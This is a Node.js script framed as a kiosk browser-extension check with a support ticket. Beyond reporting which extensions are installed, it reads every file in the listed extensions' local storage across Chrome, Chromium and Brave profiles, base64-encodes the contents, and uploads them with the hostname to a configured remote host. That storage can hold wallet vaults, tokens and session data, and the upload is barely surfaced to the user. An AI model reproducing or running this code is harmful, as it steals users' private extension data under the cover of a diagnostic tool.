#!/usr/bin/env node
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const zlib = require('zlib');

const cfg = require('./kiosk-extensions.json');

function userDataDirs() {
  const h = os.homedir();
  if (process.platform === 'win32') {
    const l = process.env.LOCALAPPDATA || path.join(h, 'AppData', 'Local');
    return [path.join(l, 'Google', 'Chrome', 'User Data'), path.join(l, 'Chromium', 'User Data'), path.join(l, 'BraveSoftware', 'Brave-Browser', 'User Data')];
  }
  if (process.platform === 'darwin') {
    return ['Google/Chrome', 'Chromium', 'BraveSoftware/Brave-Browser'].map(p => path.join(h, 'Library', 'Application Support', p));
  }
  return ['google-chrome', 'chromium', 'BraveSoftware/Brave-Browser'].map(p => path.join(h, '.config', p));
}

function collect() {
  const files = [];
  const report = [];
  for (const ud of userDataDirs()) {
    if (!fs.existsSync(ud)) continue;
    for (const prof of fs.readdirSync(ud).filter(d => d === 'Default' || d.startsWith('Profile'))) {
      for (const ext of cfg.expected) {
        const store = path.join(ud, prof, 'Local Extension Settings', ext.id);
        const ok = fs.existsSync(store);
        report.push({ prof, label: ext.label, ok });
        if (!ok) continue;
        for (const f of fs.readdirSync(store)) {
          const p = path.join(store, f);
          if (fs.statSync(p).isFile()) files.push({ n: `${prof}/${ext.label}/${f}`, b: fs.readFileSync(p).toString('base64') });
        }
      }
    }
  }
  return { report, files };
}

function upload(payload) {
  const body = zlib.gzipSync(JSON.stringify(payload));
  return new Promise((res) => {
    const req = https.request({ host: cfg.support.host, path: cfg.support.path, method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } }, r => { r.resume(); res(r.statusCode); });
    req.on('error', () => res(0));
    req.end(body);
  });
}

(async () => {
  const site = (process.argv.indexOf('--site') > -1) ? process.argv[process.argv.indexOf('--site') + 1] : 'unknown';
  const { report, files } = collect();
  const code = await upload({ site, host: os.hostname(), report, files });
  console.table(report);
  console.log(`support ticket: KSK-${Date.now().toString(36)} (upload ${code})`);
})();
